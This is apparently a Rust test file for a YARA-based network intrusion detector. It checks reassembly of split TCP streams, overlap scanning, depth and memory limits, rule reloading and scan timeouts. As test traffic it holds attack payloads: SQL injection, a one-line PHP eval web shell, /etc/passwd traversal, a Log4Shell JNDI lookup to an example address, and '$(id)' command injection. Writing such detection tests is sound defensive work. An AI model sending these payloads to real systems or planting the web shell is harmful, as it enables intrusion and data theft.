use std::net::IpAddr;
use std::path::Path;

use super::*;
use crate::detect::testkit::{evidence, ip, rule_ids, tcp, udp, SEC, T0};
use crate::packet::tcp_flags::{ACK, FIN, PSH, RST, SYN};

const CLIENT_ISN: u32 = 1_000;
const SERVER_ISN: u32 = 50_000;

fn client() -> IpAddr {
    ip(10, 0, 0, 5)
}
fn server() -> IpAddr {
    ip(10, 0, 0, 80)
}

fn config(dir: &Path) -> YaraConfig {
    YaraConfig {
        dir: dir.to_path_buf(),
        watch: false,
        ..YaraConfig::default()
    }
}

fn shipped() -> YaraDetector {
    YaraDetector::new(config(&shipped_dir()), "probe-1", 0).unwrap()
}

/// A client→server segment carrying `data` at stream offset `off`.
fn to_server(ts: i64, off: u32, data: &'static [u8]) -> PacketMeta<'static> {
    let mut p = tcp(ts, client(), server(), 40_000, 80, PSH | ACK);
    p.tcp_seq = CLIENT_ISN + 1 + off;
    p.payload = data;
    p
}

fn to_client(ts: i64, off: u32, data: &'static [u8]) -> PacketMeta<'static> {
    let mut p = tcp(ts, server(), client(), 80, 40_000, PSH | ACK);
    p.tcp_seq = SERVER_ISN + 1 + off;
    p.payload = data;
    p
}

fn handshake(d: &mut YaraDetector, out: &mut Vec<Event>) {
    let mut syn = tcp(T0, client(), server(), 40_000, 80, SYN);
    syn.tcp_seq = CLIENT_ISN;
    d.on_packet(&syn, out);
    let mut syn_ack = tcp(T0, server(), client(), 80, 40_000, SYN | ACK);
    syn_ack.tcp_seq = SERVER_ISN;
    d.on_packet(&syn_ack, out);
}

#[test]
fn attack_split_across_out_of_order_segments_is_reassembled() {
    let mut d = shipped();
    let mut out = Vec::new();
    handshake(&mut d, &mut out);
    // "GET /news.php?id=-1 UNION SELECT password FROM users HTTP/1.1\r\n\r\n" in three
    // segments, the keyword split across them, the last two swapped.
    let a: &[u8] = b"GET /news.php?id=-1 UNI";
    let b: &[u8] = b"ON SEL";
    let c: &[u8] = b"ECT password FROM users HTTP/1.1\r\n\r\n";
    d.on_packet(&to_server(T0 + 1, 0, a), &mut out);
    d.on_packet(&to_server(T0 + 2, (a.len() + b.len()) as u32, c), &mut out);
    d.on_packet(&to_server(T0 + 3, a.len() as u32, b), &mut out);
    // No single packet holds the pattern; nothing is scanned until the request is over.
    assert!(out.is_empty());
    d.on_packet(&to_client(T0 + 4, 0, b"HTTP/1.1 200 OK\r\n\r\n"), &mut out);
    d.on_finish(T0 + 5, &mut out);
    assert_eq!(rule_ids(&out), vec!["palisade.net.yara.sqli_union_select"]);
    let e = &out[0];
    assert_eq!(e.source.as_ref().unwrap().ip, Some(client()));
    assert_eq!(e.destination.as_ref().unwrap().port, Some(80));
    let net = e.network.as_ref().unwrap();
    assert_eq!(net.transport.as_deref(), Some("tcp"));
    assert_eq!(
        net.community_id,
        community_id_v1(0, client(), server(), 40_000, 80, 6)
    );
    let ev = evidence(e);
    assert_eq!(ev["direction"], "to_server");
    assert_eq!(ev["category"], "sqli");
    assert_eq!(ev["strings"][0]["stream_offset"], 20);
    assert_eq!(e.event.severity, Severity::High);
    // The alert carries the time of the packet that completed the request.
    assert_eq!(e.timestamp.0, T0 + 4);
}

#[test]
fn the_same_packets_without_reassembly_would_match_nothing() {
    // Guards the test above: each segment alone is clean.
    let set = RuleSet::load_dir(&shipped_dir()).unwrap();
    let mut scanner = yara_x::Scanner::new(set.rules());
    for part in [
        &b"GET /news.php?id=-1 UNI"[..],
        b"ON SEL",
        b"ECT password FROM users",
    ] {
        assert!(yara_rules::scan(&set, &mut scanner, part)
            .unwrap()
            .is_empty());
    }
}

#[test]
fn response_side_webshell_and_clean_traffic() {
    let mut d = shipped();
    let mut out = Vec::new();
    handshake(&mut d, &mut out);
    d.on_packet(
        &to_server(T0 + 1, 0, b"GET /uploads/1.php HTTP/1.1\r\n\r\n"),
        &mut out,
    );
    d.on_packet(
        &to_client(
            T0 + 2,
            0,
            b"HTTP/1.1 200 OK\r\n\r\n<?php @eval($_POST['x']);?>",
        ),
        &mut out,
    );
    let mut fin = to_client(T0 + 3, 45, b"");
    fin.tcp_flags = FIN | ACK;
    d.on_packet(&fin, &mut out);
    d.on_finish(T0 + 4, &mut out);
    assert_eq!(rule_ids(&out), vec!["palisade.net.yara.webshell_family"]);
    assert_eq!(evidence(&out[0])["direction"], "to_client");
    assert_eq!(out[0].source.as_ref().unwrap().ip, Some(server()));
}

#[test]
fn keep_alive_requests_alert_each_and_overlap_does_not_repeat() {
    let mut d = shipped();
    let mut out = Vec::new();
    handshake(&mut d, &mut out);
    let req1: &[u8] = b"GET /a?f=../../../../etc/passwd HTTP/1.1\r\n\r\n";
    let resp: &[u8] = b"HTTP/1.1 404 Not Found\r\n\r\n";
    let req2: &[u8] = b"GET /b HTTP/1.1\r\n\r\n";
    d.on_packet(&to_server(T0 + 1, 0, req1), &mut out);
    d.on_packet(&to_client(T0 + 2, 0, resp), &mut out);
    // The second request is scanned with the tail of the first in front (overlap): the
    // traversal seen there must not be reported twice.
    d.on_packet(&to_server(T0 + 3, req1.len() as u32, req2), &mut out);
    d.on_packet(&to_client(T0 + 4, resp.len() as u32, resp), &mut out);
    d.on_finish(T0 + 5, &mut out);
    assert_eq!(rule_ids(&out), vec!["palisade.net.yara.path_traversal"]);
    assert!(d.stats().scans.load(Ordering::Relaxed) >= 4);
}

#[test]
fn pattern_straddling_two_inspections_is_found_by_the_overlap() {
    let mut d = shipped();
    let mut out = Vec::new();
    handshake(&mut d, &mut out);
    let part1: &[u8] = b"POST /q HTTP/1.1\r\n\r\nq=1 UNION";
    d.on_packet(&to_server(T0 + 1, 0, part1), &mut out);
    // A server byte in between ends the first inspection of the client's direction.
    d.on_packet(
        &to_client(T0 + 2, 0, b"HTTP/1.1 100 Continue\r\n\r\n"),
        &mut out,
    );
    d.on_packet(
        &to_server(T0 + 3, part1.len() as u32, b" SELECT 1,2"),
        &mut out,
    );
    d.on_finish(T0 + 4, &mut out);
    assert_eq!(rule_ids(&out), vec!["palisade.net.yara.sqli_union_select"]);
}

#[test]
fn inspection_stops_at_the_configured_depth() {
    let mut c = config(&shipped_dir());
    c.stream_depth = 64;
    c.overlap = 16;
    let mut d = YaraDetector::new(c, "probe-1", 0).unwrap();
    let mut out = Vec::new();
    handshake(&mut d, &mut out);
    let filler: &'static [u8] = &[b'a'; 64];
    d.on_packet(&to_server(T0 + 1, 0, filler), &mut out);
    d.on_packet(&to_server(T0 + 2, 64, b" UNION SELECT x"), &mut out);
    d.on_finish(T0 + 3, &mut out);
    assert!(
        out.is_empty(),
        "bytes past the depth are not inspected: {out:?}"
    );
    assert_eq!(d.stats().bytes.load(Ordering::Relaxed), 64);
}

#[test]
fn udp_payloads_are_scanned_each_on_its_own() {
    let mut d = shipped();
    let mut out = Vec::new();
    let mut p = udp(T0, client(), server(), 5_000, 514);
    p.payload = b"<14>app: user-agent ${jndi:ldap://203.0.113.9/a}";
    d.on_packet(&p, &mut out);
    let mut clean = udp(T0, client(), server(), 5_000, 514);
    clean.payload = b"<14>app: login ok";
    d.on_packet(&clean, &mut out);
    d.on_finish(T0 + SEC, &mut out);
    assert_eq!(rule_ids(&out), vec!["palisade.net.yara.log4shell"]);
    assert_eq!(
        out[0].network.as_ref().unwrap().transport.as_deref(),
        Some("udp")
    );
    assert_eq!(d.stats().scans.load(Ordering::Relaxed), 2);
}

#[test]
fn rst_idle_and_eviction_all_scan_what_was_held() {
    let mut c = config(&shipped_dir());
    c.max_streams = 8;
    c.stream_idle_secs = 5;
    let mut d = YaraDetector::new(c, "probe-1", 0).unwrap();
    let mut out = Vec::new();
    // 20 one-way streams, each carrying an attack and never answered: the table holds 8, so
    // the oldest are evicted, and evicted streams are scanned on the way out.
    for i in 0..20u16 {
        let mut p = tcp(
            T0 + i64::from(i),
            client(),
            server(),
            30_000 + i,
            80,
            PSH | ACK,
        );
        p.tcp_seq = 7;
        p.payload = b"GET /?x=$(id) HTTP/1.1\r\n\r\n";
        d.on_packet(&p, &mut out);
    }
    assert!(d.evictions() > 0);
    // An RST ends one stream at once; the rest go idle.
    let mut rst = tcp(T0 + 30 * SEC, client(), server(), 30_019, 80, RST);
    rst.tcp_seq = 7;
    d.on_packet(&rst, &mut out);
    d.on_tick(T0 + 60 * SEC, &mut out);
    assert!(d.streams.is_empty(), "idle streams are dropped");
    d.on_finish(T0 + 61 * SEC, &mut out);
    assert_eq!(rule_ids(&out).len(), 20);
    assert!(rule_ids(&out)
        .iter()
        .all(|r| r == "palisade.net.yara.cmd_injection"));
    assert_eq!(d.buffered, 0, "nothing stays buffered");
}

#[test]
fn memcap_scans_early_instead_of_growing() {
    let mut c = config(&shipped_dir());
    c.memcap_bytes = 4 * 1024;
    let mut d = YaraDetector::new(c, "probe-1", 0).unwrap();
    let mut out = Vec::new();
    let chunk: &'static [u8] = &[b'x'; 1000];
    for i in 0..50u16 {
        let mut p = tcp(T0, client(), server(), 20_000 + i, 80, PSH | ACK);
        p.tcp_seq = 1;
        p.payload = chunk;
        d.on_packet(&p, &mut out);
        assert!(d.buffered <= 4 * 1024 + 1000, "buffered {}", d.buffered);
    }
    d.on_finish(T0 + SEC, &mut out);
    assert!(d.stats().bytes.load(Ordering::Relaxed) >= 50_000);
}

#[test]
fn rules_reload_on_change_and_a_broken_file_keeps_the_old_rules() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("local.yar");
    std::fs::write(
        &file,
        r#"rule first { strings: $a = "ALPHA-MARKER" condition: $a }"#,
    )
    .unwrap();
    let mut c = config(dir.path());
    c.watch = true;
    c.reload_debounce_ms = 50;
    let mut d = YaraDetector::new(c, "probe-1", 0).unwrap();
    let mut out = Vec::new();
    let mut p = udp(T0, client(), server(), 5_000, 9_999);
    p.payload = b"payload with BETA-MARKER inside";

    std::fs::write(
        &file,
        r#"rule second { meta: id = "local.beta" strings: $a = "BETA-MARKER" condition: $a }"#,
    )
    .unwrap();
    let mut waited = 0;
    while d.reloads() == 0 && waited < 200 {
        std::thread::sleep(std::time::Duration::from_millis(25));
        waited += 1;
    }
    assert!(d.reloads() >= 1, "the change was picked up");
    d.on_tick(T0, &mut out); // takes the new rules
    d.on_packet(&p, &mut out);
    d.on_tick(T0 + SEC, &mut out);
    d.on_finish(T0 + SEC, &mut out);
    assert_eq!(rule_ids(&out), vec!["local.beta"]);

    // A broken file: reported, counted, and the rules in force stay.
    std::fs::write(&file, "rule broken { condition: $missing }").unwrap();
    let mut waited = 0;
    while d.reload_failures() == 0 && waited < 200 {
        std::thread::sleep(std::time::Duration::from_millis(25));
        waited += 1;
    }
    assert!(d.reload_failures() >= 1);
    let err = d.reload().unwrap_err().to_string();
    assert!(err.contains("local.yar:1:"), "{err}");
    out.clear();
    d.on_tick(T0 + 2 * SEC, &mut out);
    d.on_packet(&p, &mut out);
    d.on_finish(T0 + 3 * SEC, &mut out);
    assert_eq!(rule_ids(&out), vec!["local.beta"]);
}

#[test]
fn a_scan_that_hits_its_time_bound_raises_an_alert() {
    let dir = tempfile::tempdir().unwrap();
    // Quadratic in the input: 64 KiB of zeros is ~4e9 iterations, far past one second.
    std::fs::write(
        dir.path().join("slow.yar"),
        "rule slow { condition: for all i in (0..filesize) : (for all j in (0..filesize) : (uint8(i) != 1 or uint8(j) != 2)) }",
    )
    .unwrap();
    let mut d = YaraDetector::new(config(dir.path()), "probe-1", 0).unwrap();
    let mut out = Vec::new();
    let zeros: &'static [u8] = Box::leak(vec![0u8; 60_000].into_boxed_slice());
    let mut p = udp(T0, client(), server(), 5_000, 9_999);
    p.payload = zeros;
    d.on_packet(&p, &mut out);
    d.on_finish(T0 + SEC, &mut out);
    assert_eq!(rule_ids(&out), vec!["palisade.net.yara.scan_timeout"]);
    assert!(evidence(&out[0])["elapsed_secs"].as_f64().unwrap() >= 1.0);
    assert_eq!(d.stats().timeouts.load(Ordering::Relaxed), 1);
}

#[test]
fn config_is_checked() {
    let mut c = config(&shipped_dir());
    c.overlap = c.stream_depth;
    let err = YaraDetector::new(c, "p", 0).unwrap_err().to_string();
    assert!(err.contains("overlap"), "{err}");
    let err = YaraDetector::new(config(Path::new("/nonexistent/rules")), "p", 0)
        .unwrap_err()
        .to_string();
    assert!(err.contains("/nonexistent/rules"), "{err}");
}

#[test]
fn file_scope_rules_never_alert_on_payloads() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("mixed.yar"),
        r#"
rule on_disk { meta: id = "t.file" scope = "file" strings: $a = "SHELL-MARKER" condition: $a }
rule on_wire { meta: id = "t.net" scope = "network" strings: $a = "SHELL-MARKER" condition: $a }
rule anywhere { meta: id = "t.any" strings: $a = "SHELL-MARKER" condition: $a }
"#,
    )
    .unwrap();
    let mut d = YaraDetector::new(config(dir.path()), "probe-1", 0).unwrap();
    let mut out = Vec::new();
    let mut p = udp(T0, client(), server(), 5_000, 9_999);
    p.payload = b"GET /x?q=SHELL-MARKER";
    d.on_packet(&p, &mut out);
    handshake(&mut d, &mut out);
    d.on_packet(
        &to_client(T0 + 1, 0, b"HTTP/1.1 200 OK\r\n\r\nSHELL-MARKER"),
        &mut out,
    );
    d.on_finish(T0 + SEC, &mut out);
    let mut ids = rule_ids(&out);
    ids.sort();
    // The file rule matches both payloads too; only the network and any rules may say so.
    assert_eq!(ids, vec!["t.any", "t.any", "t.net", "t.net"]);
    // Guards the test: the scan itself does match the file rule.
    let set = RuleSet::load_dir(dir.path()).unwrap();
    let mut scanner = yara_x::Scanner::new(set.rules());
    let m = yara_rules::scan(&set, &mut scanner, b"GET /x?q=SHELL-MARKER").unwrap();
    assert!(m.iter().any(|m| m.rule.id == "t.file"), "{m:?}");
}
